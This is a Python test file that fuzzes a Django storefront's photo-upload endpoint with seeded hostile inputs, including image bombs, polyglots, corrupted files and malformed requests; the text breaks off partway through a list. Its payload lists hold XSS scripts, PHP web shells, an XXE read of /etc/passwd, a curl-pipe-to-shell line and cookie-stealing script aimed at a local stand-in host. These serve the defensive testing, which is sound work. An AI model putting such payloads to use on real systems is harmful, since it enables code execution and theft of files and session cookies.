"""R3, hostile uploads (docs/reliability.md): bad inputs generated from a seed, each sent
to the storefront as a shopper's browser would (session, CSRF token), each refused with a
4xx and a documented code; none answered 5xx, none accepted, none leaving a row, a file
or a request to Genlook behind, and the server's memory bounded throughout.

The families: truncated and corrupted images (JPEG, progressive JPEG, PNG, WebP, APNG,
animated WebP, MPO, GIF, HEIC), decompression bombs (huge declared sizes, zlib bombs in
IDAT, iCCP and zTXt), pixel-count bombs within the byte limit, polyglots, markup and
scripts disguised as images, other formats, empty bodies, 50 MB bodies, wrong and missing
content types, broken multipart forms, absurd filenames, JSON bodies, lying or missing
Content-Length headers, and photos sent to the endpoints that take none.

Each input has an oracle: *reject* (it must get a 4xx with one of the codes its family
allows), *either* (a corrupted image that a strict, independent decode still reads: it
may be accepted), or *accept* (a valid edge case: CMYK, 16-bit, palette, animated...,
or a valid image carrying a payload, which must be accepted with the payload gone).
Only the *reject* inputs count as bad inputs (at least 1,000 in a full run).

Memory: each request runs inside a window that records the peak of Python's traced
allocations (tracemalloc) and, on Linux, the peak resident size (VmHWM, reset before each
request through /proc/self/clear_refs), so that what Pillow allocates in C counts too.

Seeded (``GENLOOK_R3_SEED``, default below): a failure names the input's family and index
and is reproduced with the same seed.
"""

from __future__ import annotations

import base64
import io
import os
import random
import re
import struct
import time
import tracemalloc
import uuid
import warnings
import zlib
from collections import Counter
from collections.abc import Callable
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from PIL import Image, ImageCms

from genlook_django.api.errors import MESSAGES
from genlook_django.models import ShopperPhoto, TryOn, UsageRecord
from genlook_django.services import files
from genlook_django.services.tryons import photos
from tests.catalog.conftest import API_KEY
from tests.storefront import images
from tests.storefront.conftest import (  # noqa: F401  (fixtures)
    ME,
    TRY_ONS,
    _media_server,
    adapter_for,
    genlook,
    make_product,
    product,
    product_ref,
    shop_adapter,
    storefront,
)

from .figures import full_run, scaled

pytestmark = [
    pytest.mark.django_db(transaction=True),
    # Pillow warns about the damage it reads past (corrupt EXIF, malformed MPO): expected.
    pytest.mark.filterwarnings("ignore::UserWarning:PIL"),
]

SEED = int(os.environ.get("GENLOOK_R3_SEED", "20260516"))
DOCS = Path(__file__).resolve().parents[2] / "docs" / "storefront-api.md"
MB = 1024 * 1024
BOUNDARY = "R3-hostile-boundary-7d1f"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"

REJECT, EITHER, ACCEPT = "reject", "either", "accept"

# What each family may be refused with (every code must also be documented).
INVALID = frozenset({"PHOTO_INVALID"})
UNSUPPORTED = frozenset({"PHOTO_UNSUPPORTED_TYPE"})
HEIC = frozenset({"PHOTO_HEIC_UNSUPPORTED", "PHOTO_INVALID", "PHOTO_TOO_MANY_PIXELS"})
IMAGE_CODES = frozenset(
    {
        "PHOTO_INVALID",
        "PHOTO_UNSUPPORTED_TYPE",
        "PHOTO_HEIC_UNSUPPORTED",
        "PHOTO_TOO_SMALL",
        "PHOTO_TOO_MANY_PIXELS",
    }
)
TOO_MANY_PIXELS = frozenset({"PHOTO_TOO_MANY_PIXELS"})
BOMB_CODES = frozenset({"PHOTO_TOO_MANY_PIXELS", "PHOTO_INVALID"})
REQUEST_CODES = frozenset({"INVALID_REQUEST", "PHOTO_REQUIRED"})
TOO_LARGE = frozenset({"PHOTO_TOO_LARGE"})
MEDIA_TYPE = frozenset({"UNSUPPORTED_MEDIA_TYPE", "INVALID_REQUEST", "LENGTH_REQUIRED"})

# Never to be found in a stored photo (the normalised JPEG) after a polyglot was accepted.
PAYLOAD_MARKERS = (b"<script", b"<html", b"<?php", b"PK\x03\x04", b"%PDF", b"<svg", b"R3MARK")


# -- The documented error codes -----------------------------------------------------------------


def documented_codes() -> set[str]:
    """The codes of the errors table of docs/storefront-api.md."""
    return set(re.findall(r"^\| \d{3} \| `([A-Z_]+)` \|", DOCS.read_text(), re.MULTILINE))


# -- Memory: a window around each request ---------------------------------------------------------


def _proc_status(key: str) -> int | None:
    """A /proc/self/status figure in bytes (Linux), or None."""
    try:
        text = Path("/proc/self/status").read_text()
    except OSError:
        return None
    match = re.search(rf"^{key}:\s+(\d+) kB", text, re.MULTILINE)
    return int(match.group(1)) * 1024 if match else None


def _reset_peak_rss() -> bool:
    """Reset VmHWM to the current resident size (Linux 4.0+); False where it cannot be."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        return False
    return True


@dataclass
class Window:
    traced_peak: int = 0  # bytes allocated by Python above the start, at the peak
    rss_peak: int | None = None  # resident bytes above the start, at the peak (Linux)
    seconds: float = 0.0


class Meter:
    """Wraps the test client's handler: every request runs inside a measured window
    (the test client's own copy of the body is made before it, and not counted)."""

    def __init__(self, client: Client) -> None:
        self.rss = _reset_peak_rss() and _proc_status("VmHWM") is not None
        self.last = Window()
        handler = client.handler

        def measured(environ):
            with self.window():
                return handler(environ)

        client.handler = measured

    @contextmanager
    def window(self):
        rss0 = None
        if self.rss:
            _reset_peak_rss()
            rss0 = _proc_status("VmRSS")
        tracemalloc.reset_peak()
        traced0 = tracemalloc.get_traced_memory()[0]
        started = time.perf_counter()
        try:
            yield
        finally:
            seconds = time.perf_counter() - started
            traced = tracemalloc.get_traced_memory()[1] - traced0
            hwm = _proc_status("VmHWM") if self.rss else None
            rss = None if rss0 is None or hwm is None else max(0, hwm - rss0)
            self.last = Window(traced_peak=traced, rss_peak=rss, seconds=seconds)


# -- Images ---------------------------------------------------------------------------------------


def encode(image: Image.Image, format: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format, **options)
    return out.getvalue()


def smooth(rng: random.Random, size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A smooth picture (noise upscaled): compresses like a photo, not like noise."""
    small = (max(2, size[0] // 12), max(2, size[1] // 12))
    bands = len(mode) if mode in ("RGB", "RGBA", "CMYK", "LA") else 1
    noise = Image.frombytes(mode, small, rng.randbytes(small[0] * small[1] * bands))
    return noise.resize(size, Image.Resampling.BILINEAR)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(
    width: int,
    height: int,
    idat: bytes,
    *,
    depth: int = 8,
    colour: int = 2,
    before: bytes = b"",
    after: bytes = b"",
) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + before
        + png_chunk(b"IDAT", idat)
        + after
        + png_chunk(b"IEND", b"")
    )


def zeros_compressed(total: int) -> bytes:
    """``total`` zero bytes, deflated a megabyte at a time (a zlib bomb: ~1000:1)."""
    compressor = zlib.compressobj(9)
    chunk = b"\x00" * min(total, MB)
    out, left = [], total
    while left > 0:
        out.append(compressor.compress(chunk[: min(left, len(chunk))]))
        left -= len(chunk)
    return b"".join(out) + compressor.flush()


def png_rows(width: int, height: int, pixel_bytes: int = 3) -> bytes:
    """The IDAT of a real, valid image of any size (zero-filtered flat rows), streamed."""
    compressor = zlib.compressobj(6)
    row = b"\x00" + bytes(range(1, 1 + pixel_bytes)) * width
    return b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()


def patch_jpeg_size(content: bytes, width: int, height: int) -> bytes:
    """The JPEG with the dimensions in its SOF segment replaced (the data left as is)."""
    at = 2
    while at + 4 <= len(content):
        marker = content[at + 1]
        length = struct.unpack(">H", content[at + 2 : at + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            return content[: at + 5] + struct.pack(">HH", height, width) + content[at + 9 :]
        at += 2 + length
    raise AssertionError("no SOF segment")


def patch_webp_canvas(content: bytes, width: int, height: int) -> bytes:
    """An extended WebP (VP8X) with its canvas size replaced."""
    assert content[12:16] == b"VP8X"
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return content[:24] + size + content[30:]


def heic(rng: random.Random, width: int = 640, height: int = 480) -> bytes:
    """An ISO-BMFF file with an HEIC brand, a meta box and an ``ispe`` size (no real codec
    data: there is no HEIC encoder here)."""
    ispe = struct.pack(">I", 20) + b"ispe" + b"\x00" * 4 + struct.pack(">II", width, height)
    meta = struct.pack(">I", 12 + len(ispe)) + b"meta" + b"\x00" * 4 + ispe
    return images.heic_header()[:24] + meta + rng.randbytes(rng.randint(16, 400))


def reference_decodes(content: bytes) -> bool:
    """An independent, strict decode (Pillow's own sniffing, no truncated images): could
    an upload of these bytes be read as a photo at all? Decides the oracle of corrupted
    inputs: what this cannot read must be refused; what it can may be accepted."""
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            with Image.open(io.BytesIO(content)) as image:
                if image.format not in ("JPEG", "MPO", "PNG", "WEBP"):
                    return False
                if image.width * image.height > 16_000_000:
                    return False  # refused by the pixel bound, whatever it holds
                image.load()
                return True
    except Exception:
        return False


class Bases:
    """Valid images of each format, made once from the seed (the material of truncation,
    corruption and polyglots), and the valid edge cases."""

    def __init__(self, rng: random.Random) -> None:
        size = (480, 360)
        rgb = smooth(rng, size)
        rgba = smooth(rng, size, "RGBA")
        frames = [smooth(rng, size) for _ in range(3)]
        self.images: dict[str, bytes] = {
            "jpeg": encode(rgb, "JPEG", quality=85),
            "jpeg_progressive": encode(rgb, "JPEG", quality=85, progressive=True),
            "jpeg_exif": images.jpeg(size, orientation=6, gps=True),
            "png": encode(rgb, "PNG"),
            "png_rgba": encode(rgba, "PNG"),
            "png_palette": encode(rgb.convert("P", palette=Image.Palette.ADAPTIVE), "PNG"),
            "webp": encode(rgb, "WEBP", quality=80),
            "webp_lossless": encode(rgba, "WEBP", lossless=True),
            "webp_animated": encode(frames[0], "WEBP", save_all=True, append_images=frames[1:]),
            "apng": encode(frames[0], "PNG", save_all=True, append_images=frames[1:]),
            "mpo": encode(frames[0], "MPO", save_all=True, append_images=frames[1:2]),
            "gif": encode(rgb.convert("P"), "GIF"),
            "heic": heic(rng),
        }
        self.valid = self._valid_edge_cases(rng)

    def _valid_edge_cases(self, rng: random.Random) -> dict[str, bytes]:
        size = (400, 300)
        rgb = smooth(rng, size)
        srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
        grey16 = Image.frombytes("I;16", size, rng.randbytes(size[0] * size[1] * 2))
        palette_t = rgb.convert("P", palette=Image.Palette.ADAPTIVE, colors=64)
        return {
            "cmyk_jpeg": encode(smooth(rng, size, "CMYK"), "JPEG"),
            "grey_jpeg": encode(rgb.convert("L"), "JPEG"),
            "progressive_jpeg": self.images["jpeg_progressive"],
            "exif_rotated_jpeg": self.images["jpeg_exif"],
            "icc_jpeg": encode(rgb, "JPEG", icc_profile=srgb),
            "mpo": self.images["mpo"],
            "png_16bit_grey": encode(grey16, "PNG"),
            "png_48bit_rgb": png_of(*size, png_rows(*size, 6), depth=16),
            "png_64bit_rgba": png_of(*size, png_rows(*size, 8), depth=16, colour=6),
            "png_palette_transparent": encode(palette_t, "PNG", transparency=0),
            "png_1bit": encode(rgb.convert("1"), "PNG"),
            "png_la": encode(rgb.convert("LA"), "PNG"),
            "png_rgba": self.images["png_rgba"],
            "apng": self.images["apng"],
            "webp_lossless_rgba": self.images["webp_lossless"],
            "webp_animated": self.images["webp_animated"],
            "min_edge_jpeg": encode(smooth(rng, (256, 256)), "JPEG"),
            "large_jpeg": encode(smooth(rng, (3000, 2000)), "JPEG", quality=90),
        }


# -- Requests -------------------------------------------------------------------------------------


@dataclass
class Case:
    family: str
    label: str
    body: bytes
    content_type: str | None = MULTIPART
    expect: str = REJECT
    codes: frozenset[str] = IMAGE_CODES
    method: str = "POST"
    path: str = TRY_ONS
    extra: dict[str, str] = field(default_factory=dict)


def part(
    name: bytes | None,
    body: bytes,
    *,
    filename: bytes | None = None,
    ctype: bytes | None = None,
    headers: bytes | None = None,
) -> bytes:
    if headers is None:
        disposition = b"Content-Disposition: form-data"
        if name is not None:
            disposition += b'; name="' + name + b'"'
        if filename is not None:
            disposition += b'; filename="' + filename + b'"'
        headers = disposition + (b"\r\nContent-Type: " + ctype if ctype else b"")
    return headers + b"\r\n\r\n" + body


def form(parts: list[bytes], boundary: str = BOUNDARY, *, close: bool = True) -> bytes:
    delimiter = b"--" + boundary.encode()
    body = b"".join(delimiter + b"\r\n" + p + b"\r\n" for p in parts)
    return body + (delimiter + b"--\r\n" if close else b"")


class Kit:
    """What the generators share: the product's reference, the bases, the seed's rng, and
    the expensive bodies (made once per run)."""

    def __init__(self, rng: random.Random, reference: str, bases: Bases) -> None:
        self.rng = rng
        self.ref = reference.encode()
        self.bases = bases
        self.heic_codes = HEIC if photos.heif_supported() else frozenset({"PHOTO_HEIC_UNSUPPORTED"})
        self._memo: dict[object, bytes] = {}
        self._made: Counter[str] = Counter()

    def nth(self, family: str) -> int:
        """How many inputs of this family were made before this one."""
        self._made[family] += 1
        return self._made[family] - 1

    def memo(self, key: object, make: Callable[[], bytes]) -> bytes:
        if key not in self._memo:
            self._memo[key] = make()
        return self._memo[key]

    def zeros_64mb(self) -> bytes:
        return self.memo("zeros", lambda: zeros_compressed(64 * MB))

    def big(self) -> bytes:
        """50 MB that start like a JPEG."""
        return self.memo("50mb", lambda: b"\xff\xd8\xff\xe0" + b"\x00" * (50 * MB))

    def fields(self) -> list[bytes]:
        return [part(b"product", self.ref), part(b"consent", b"true")]

    def photo(
        self,
        content: bytes,
        *,
        filename: bytes = b"me.jpg",
        ctype: bytes | None = b"image/jpeg",
    ) -> bytes:
        return form([*self.fields(), part(b"photo", content, filename=filename, ctype=ctype)])

    def base(self, *names: str) -> tuple[str, bytes]:
        name = self.rng.choice(names or tuple(self.bases.images))
        return name, self.bases.images[name]

    def image_case(self, family: str, label: str, content: bytes, **kwargs) -> Case:
        """An image upload whose oracle is the reference decode."""
        expect = EITHER if reference_decodes(content) else REJECT
        return Case(family, label, self.photo(content), expect=expect, **kwargs)

    def image_ext(self) -> bytes:
        return self.rng.choice([b"jpg", b"jpeg", b"png", b"webp", b"heic", b"JPG", b"gif"])

    def image_type(self) -> bytes:
        return self.rng.choice(
            [b"image/jpeg", b"image/png", b"image/webp", b"image/heic", b"image/gif", b"image/*"]
        )


# -- The families ---------------------------------------------------------------------------------


def truncated(kit: Kit) -> Case:
    name, content = kit.base()
    rng = kit.rng
    cut = rng.choice([rng.randrange(0, 64), rng.randrange(0, len(content))])
    if name == "gif":  # cut to nothing: an empty file (PHOTO_INVALID)
        codes = UNSUPPORTED | INVALID
        return Case("truncated", f"{name}[:{cut}]", kit.photo(content[:cut]), codes=codes)
    if name == "heic":
        codes = kit.heic_codes | INVALID | UNSUPPORTED
        return Case("truncated", f"{name}[:{cut}]", kit.photo(content[:cut]), codes=codes)
    return kit.image_case("truncated", f"{name}[:{cut}]", content[:cut])


def corrupted(kit: Kit) -> Case:
    name, content = kit.base(*(n for n in kit.bases.images if n not in ("gif", "heic")))
    rng = kit.rng
    data = bytearray(content)
    where = rng.choice(["header", "anywhere", "tail", "bytes"])
    flips = []
    for _ in range(rng.randint(1, 12)):
        if where == "header":
            at = rng.randrange(0, min(len(data), 96))
        elif where == "tail":
            at = rng.randrange(max(0, len(data) - 256), len(data))
        else:
            at = rng.randrange(0, len(data))
        if where == "bytes":
            data[at] = rng.choice([0x00, 0xFF, rng.randrange(256)])
        else:
            data[at] ^= 1 << rng.randrange(8)
        flips.append(at)
    label = f"{name} {where} @{','.join(map(str, sorted(flips)[:4]))}"
    return kit.image_case("corrupted", label, bytes(data))


def bombs(kit: Kit) -> Case:
    rng = kit.rng
    kind = rng.choice(
        [
            "png_dims",
            "png_max_dims",
            "png_idat_zlib",
            "png_iccp_zlib",
            "png_ztxt_zlib",
            "jpeg_sof",
            "jpeg_progressive_sof",
            "webp_canvas",
            "gif_screen",
            "heic_ispe",
            "apng_frames",
        ]
    )
    if kind == "png_dims":  # over the full-decode bound, a few hundred bytes
        side = rng.randint(4001, 65_535)
        other = rng.randint(max(1, 16_000_001 // side + 1), 65_535)
        content = png_of(side, other, zlib.compress(b"\x00" * 64), colour=rng.choice([0, 2, 6]))
        return Case("bombs", f"{kind} {side}x{other}", kit.photo(content), codes=BOMB_CODES)
    if kind == "png_max_dims":  # the largest sizes PNG allows
        width, height = rng.choice([(2**31 - 1, 2**31 - 1), (2**31 - 1, 1), (1, 2**31 - 1)])
        content = png_of(width, height, zlib.compress(b"\x00" * 64))
        codes = BOMB_CODES | frozenset({"PHOTO_TOO_SMALL"})
        return Case("bombs", f"{kind} {width}x{height}", kit.photo(content), codes=codes)
    if kind == "png_idat_zlib":  # 600x600 declared, 64 MB of zeros deflated in its IDAT
        content = kit.memo("idat", lambda: png_of(600, 600, zeros_compressed(64 * MB)))
        return kit.image_case("bombs", kind, content)
    if kind == "png_iccp_zlib":  # a 64 MB "ICC profile" in 64 kB
        chunk = png_chunk(b"iCCP", b"icc\x00\x00" + kit.zeros_64mb())
        content = png_of(400, 300, png_rows(400, 300), before=chunk)
        return kit.image_case("bombs", kind, content)
    if kind == "png_ztxt_zlib":  # 64 MB of text, after the pixels (read at the end)
        chunk = png_chunk(b"zTXt", b"Comment\x00\x00" + kit.zeros_64mb())
        content = png_of(400, 300, png_rows(400, 300), after=chunk)
        return kit.image_case("bombs", kind, content)
    if kind in ("jpeg_sof", "jpeg_progressive_sof"):
        progressive = kind == "jpeg_progressive_sof"
        source = kit.bases.images["jpeg_progressive" if progressive else "jpeg"]
        width, height = rng.randint(7072, 65_535), rng.randint(7072, 65_535)
        content = patch_jpeg_size(source, width, height)
        return Case("bombs", f"{kind} {width}x{height}", kit.photo(content), codes=BOMB_CODES)
    if kind == "webp_canvas":  # an animation's canvas of up to 16384x16384 (1 GB decoded)
        width, height = rng.randint(4001, 16_384), rng.randint(4001, 16_384)
        content = patch_webp_canvas(kit.bases.images["webp_animated"], width, height)
        return Case("bombs", f"{kind} {width}x{height}", kit.photo(content), codes=BOMB_CODES)
    if kind == "gif_screen":
        content = b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\xf7\x00\x00" + b"\x00" * 64
        return Case("bombs", kind, kit.photo(content), codes=UNSUPPORTED)
    if kind == "heic_ispe":
        content = heic(rng, 65_535, 65_535)
        return Case("bombs", kind, kit.photo(content), codes=kit.heic_codes | BOMB_CODES)
    # apng_frames: an APNG that declares 2**31 - 1 frames (it has 3)
    content = bytearray(kit.bases.images["apng"])
    at = content.index(b"acTL") + 4
    content[at : at + 4] = struct.pack(">I", 2**31 - 1)
    content[at + 8 : at + 12] = struct.pack(">I", zlib.crc32(bytes(content[at - 4 : at + 8])))
    return kit.image_case("bombs", kind, bytes(content))


def pixel_bombs(kit: Kit) -> Case:
    """Real images within the byte limit, over the pixel bounds: refused from the header."""
    rng = kit.rng
    kind = rng.choice(["png_rgb", "png_rgba", "png_grey16", "jpeg_baseline", "jpeg_progressive"])
    if kind.startswith("png"):
        width = rng.choice([4001, 5000, 6400, 8000])
        height = 16_000_000 // width + rng.choice([1, 300])
        pixel_bytes, depth, colour = {"png_rgb": (3, 8, 2), "png_rgba": (4, 8, 6)}.get(
            kind, (2, 16, 0)
        )
        content = kit.memo(
            (kind, width, height),
            lambda: png_of(
                width, height, png_rows(width, height, pixel_bytes), depth=depth, colour=colour
            ),
        )
    else:
        progressive = kind == "jpeg_progressive"
        bound = 16_000_000 if progressive else 50_000_000
        width = rng.randint(7100, 12_000)
        height = rng.randint(bound // width + 1, bound // width + 400)
        source = kit.bases.images["jpeg_progressive" if progressive else "jpeg"]
        content = patch_jpeg_size(source, width, height)
    assert len(content) < 10 * MB
    label = f"{kind} {width}x{height} {len(content)} B"
    return Case("pixel_bombs", label, kit.photo(content), codes=TOO_MANY_PIXELS)


PAYLOADS = {
    "html": b"<html><body><script>alert(document.cookie)</script>R3MARK</body></html>",
    "js": b"<script>fetch('/genlook/api/me/').then(r=>r.text())</script>R3MARK",
    "php": b"<?php system($_GET['c']); /* R3MARK */ ?>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">R3MARK</svg>',
    "pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj R3MARK\ntrailer<</Root 1 0 R>>\n%%EOF",
}


def _zip_payload() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", PAYLOADS["html"])
    return out.getvalue()


def polyglot_prepended(kit: Kit) -> Case:
    """Something else first, then a valid image: not a photo by its first bytes."""
    rng = kit.rng
    kind = rng.choice([*PAYLOADS, "zip", "gifar"])
    name, image = kit.base(*(n for n in kit.bases.images if n not in ("gif", "heic")))
    if kind == "gifar":
        content = b"GIF89a" + image + _zip_payload()
    else:
        payload = _zip_payload() if kind == "zip" else PAYLOADS[kind]
        content = payload + rng.choice([b"", b"\n", b"\x00" * rng.randint(1, 32)]) + image
    return Case("polyglots_prepended", f"{kind}+{name}", kit.photo(content), codes=UNSUPPORTED)


def polyglot_appended(kit: Kit) -> Case:
    """A valid image carrying a payload after its end or in its metadata: accepted, and
    the payload must not survive the re-encode."""
    rng = kit.rng
    kind = rng.choice([*PAYLOADS, "zip", "jpeg_comment", "png_text", "exif"])
    name, image = kit.base("jpeg", "png", "webp", "jpeg_progressive", "png_rgba")
    if kind == "jpeg_comment":
        content = encode(smooth(rng, (320, 320)), "JPEG", comment=PAYLOADS["html"])
    elif kind == "png_text":
        from PIL import PngImagePlugin

        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", PAYLOADS["php"].decode())
        info.add_itxt("XML:com.adobe.xmp", PAYLOADS["svg"].decode())
        content = encode(smooth(rng, (320, 320)), "PNG", pnginfo=info)
    elif kind == "exif":
        exif = Image.Exif()
        exif[0x010E] = PAYLOADS["js"].decode()  # ImageDescription
        content = encode(smooth(rng, (320, 320)), "JPEG", exif=exif)
    else:
        content = image + (_zip_payload() if kind == "zip" else PAYLOADS[kind])
    return Case("polyglots_appended", f"{name}+{kind}", kit.photo(content), expect=ACCEPT)


MARKUP = [
    b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script>",
    b'<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000" onload="alert(1)">'
    b"<script>alert(2)</script><rect width='100%' height='100%'/></svg>",
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;'
    b'&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b"<svg>&lol3;</svg>",
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<svg>&xxe;</svg>",
    b"<?php echo shell_exec($_GET['cmd']); ?>",
    b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n",
    b"<script>document.location='http://127.0.0.1:9/?'+document.cookie</script>",
    b"<img src=x onerror=alert(1)>",
    b"<html><body><iframe src='javascript:alert(1)'></iframe></body></html>",
    b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 4000 4000\n",
    b'{"photo": "data:image/png;base64,iVBORw0KGgo="}',
    b"data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/",
    b"javascript:alert(String.fromCharCode(88,83,83))",
    b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><script>alert(1)</script></x:xmpmeta>",
    b"P6\n65535 65535\n255\n",
    b"\x00\x00\x01\x00\x01\x00\x10\x10<script>",  # an ICO header
]

MAGIC = {
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "png": b"\x89PNG\r\n\x1a\n",
    "webp": b"RIFF\x00\x01\x00\x00WEBPVP8 ",
}


def disguised(kit: Kit) -> Case:
    """Markup, scripts and text under an image's name and type."""
    rng = kit.rng
    text = rng.choice(MARKUP)
    style = rng.choice(["plain", "bom", "space", "upper", "utf16", "padded", "magic"])
    codes = UNSUPPORTED
    if style == "bom":
        text = b"\xef\xbb\xbf" + text
    elif style == "space":
        text = rng.choice([b" ", b"\n", b"\t", b"\r\n"]) * rng.randint(1, 40) + text
    elif style == "upper":
        text = text.upper()
    elif style == "utf16":
        text = text.decode("latin-1").encode("utf-16")
    elif style == "padded":
        text = text + b" " * rng.randint(1, 200_000)
    else:  # the first bytes of an image, then markup
        magic = rng.choice(list(MAGIC))
        text = MAGIC[magic] + text
        codes = INVALID
    filename = b"photo." + kit.image_ext()
    body = kit.photo(text, filename=filename, ctype=kit.image_type())
    return Case("disguised", f"{style} {text[:24]!r}", body, codes=codes)


def other_formats(kit: Kit) -> Case:
    rng = kit.rng
    kind = rng.choice(
        [
            *("bmp", "tiff", "ico", "ppm", "tga", "pcx", "jpeg2000", "gif_animated"),
            *("pdf", "zip", "mp4", "avif", "elf", "exe", "psd", "svgz"),
        ]
    )
    picture = smooth(rng, (300, 300))
    codes = UNSUPPORTED
    if kind == "gif_animated":
        frames = [smooth(rng, (300, 300)).convert("P") for _ in range(3)]
        content = encode(frames[0], "GIF", save_all=True, append_images=frames[1:])
    elif kind in ("bmp", "tiff", "ico", "ppm", "tga", "pcx"):
        content = encode(picture, {"ppm": "PPM", "tga": "TGA"}.get(kind, kind.upper()))
    elif kind == "jpeg2000":
        content = encode(picture, "JPEG2000")
    elif kind == "pdf":
        content = encode(picture, "PDF")
    elif kind == "zip":
        content = _zip_payload()
    elif kind == "mp4":
        content = struct.pack(">I", 24) + b"ftypisom\x00\x00\x02\x00isomiso2" + rng.randbytes(512)
    elif kind == "avif":  # an AVIF brand: read as HEIF
        content = struct.pack(">I", 24) + b"ftypavif\x00\x00\x00\x00avifmif1" + rng.randbytes(512)
        codes = kit.heic_codes
    elif kind == "elf":
        content = b"\x7fELF\x02\x01\x01" + rng.randbytes(1024)
    elif kind == "exe":
        content = b"MZ\x90\x00" + rng.randbytes(1024)
    elif kind == "psd":
        content = b"8BPS\x00\x01" + rng.randbytes(1024)
    else:
        content = b"\x1f\x8b\x08" + zlib.compress(MARKUP[1])
    body = kit.photo(content, filename=b"photo." + kit.image_ext(), ctype=kit.image_type())
    return Case("other_formats", kind, body, codes=codes)


def empty(kit: Kit) -> Case:
    rng = kit.rng
    kind = rng.choice(
        ["empty_file", "empty_body", "empty_body_no_type", "whitespace", "magic_only", "nul"]
    )
    if kind == "empty_file":
        return Case("empty", kind, kit.photo(b""), codes=INVALID)
    if kind == "empty_body":
        return Case("empty", kind, b"", codes=REQUEST_CODES | MEDIA_TYPE)
    if kind == "empty_body_no_type":
        return Case("empty", kind, b"", content_type=None, codes=REQUEST_CODES)
    if kind == "whitespace":
        return Case("empty", kind, kit.photo(b" \r\n\t" * rng.randint(1, 64)), codes=UNSUPPORTED)
    if kind == "nul":
        return Case("empty", kind, kit.photo(b"\x00" * rng.randint(1, 4096)), codes=UNSUPPORTED)
    magic = rng.choice([*MAGIC.values(), b"\xff\xd8\xff", images.heic_header()[:12]])
    return Case("empty", f"{kind} {magic[:8]!r}", kit.photo(magic), codes=IMAGE_CODES)


def oversized(kit: Kit) -> Case:
    """Bodies over the limit: 50 MB (refused on their length, unread), just over the photo
    limit (read, then refused), and lengths that lie."""
    rng = kit.rng
    kinds = ["multipart_50mb", "just_over", "json_50mb", "lying_length", "raw_50mb"]
    kind = kinds[kit.nth("oversized") % len(kinds)]  # each kind in turn: 50 MB in CI too
    if kind == "multipart_50mb":
        body = kit.memo("50mb-form", lambda: kit.photo(kit.big()))
        return Case("oversized", kind, body, codes=TOO_LARGE)
    if kind == "json_50mb":
        prefix = b'{"product": "' + kit.ref + b'", "consent": true, "photo": "'
        body = kit.memo("50mb-json", lambda: prefix + kit.big() + b'"}')
        return Case("oversized", kind, body, "application/json", codes=TOO_LARGE)
    if kind == "raw_50mb":
        return Case("oversized", kind, kit.big(), "image/jpeg", codes=TOO_LARGE)
    if kind == "just_over":  # read and parsed (to a temporary file), then refused
        size = 10 * MB + rng.randint(1, 32 * 1024)
        content = kit.bases.images["jpeg"] + b"\x00" * (size - len(kit.bases.images["jpeg"]))
        return Case("oversized", f"{kind} {size}", kit.photo(content), codes=TOO_LARGE)
    # A small body that claims to be 60 MB (never read: the length is enough)
    length = str(rng.randint(11 * MB, 60 * MB))
    body = kit.photo(kit.bases.images["jpeg"])
    return Case("oversized", kind, body, codes=TOO_LARGE, extra={"CONTENT_LENGTH": length})


def content_types(kit: Kit) -> Case:
    """A valid photo's multipart body under a wrong or missing Content-Type."""
    rng = kit.rng
    body = kit.photo(kit.bases.images["jpeg"])
    kind = rng.choice(
        [
            "image/jpeg",
            "application/octet-stream",
            "text/plain",
            "text/html",
            "application/xml",
            "image/svg+xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "multipart/form-data; boundary=wrong-boundary",
            f"multipart/form-data; boundary={'b' * 300}",
            "multipart/mixed; boundary=" + BOUNDARY,
            "multipart/related; boundary=" + BOUNDARY,
            "text/plain; charset=utf-8",
            "application/json",
            "MULTIPART/FORM-DATA",
            "",
            None,
        ]
    )
    if kind == "image/jpeg" and rng.random() < 0.5:
        body = kit.bases.images["jpeg"]  # the photo alone, as the body
    codes = MEDIA_TYPE | REQUEST_CODES
    return Case("content_types", repr(kind), body, kind, codes=codes)


def multipart_forms(kit: Kit) -> Case:
    """Broken forms, wrong field names, many files, photos as text fields."""
    rng = kit.rng
    bad = kit.bases.images["jpeg"][: rng.randint(100, 2000)]  # a truncated photo
    fields = kit.fields()
    kind = rng.choice(
        [
            "field_name",
            "two_files_last_bad",
            "many_files",
            "too_many_files",
            "too_many_fields",
            "photo_as_text",
            "photo_as_big_text",
            "no_disposition",
            "garbage_headers",
            "no_closing",
            "no_body_separator",
            "base64_garbage",
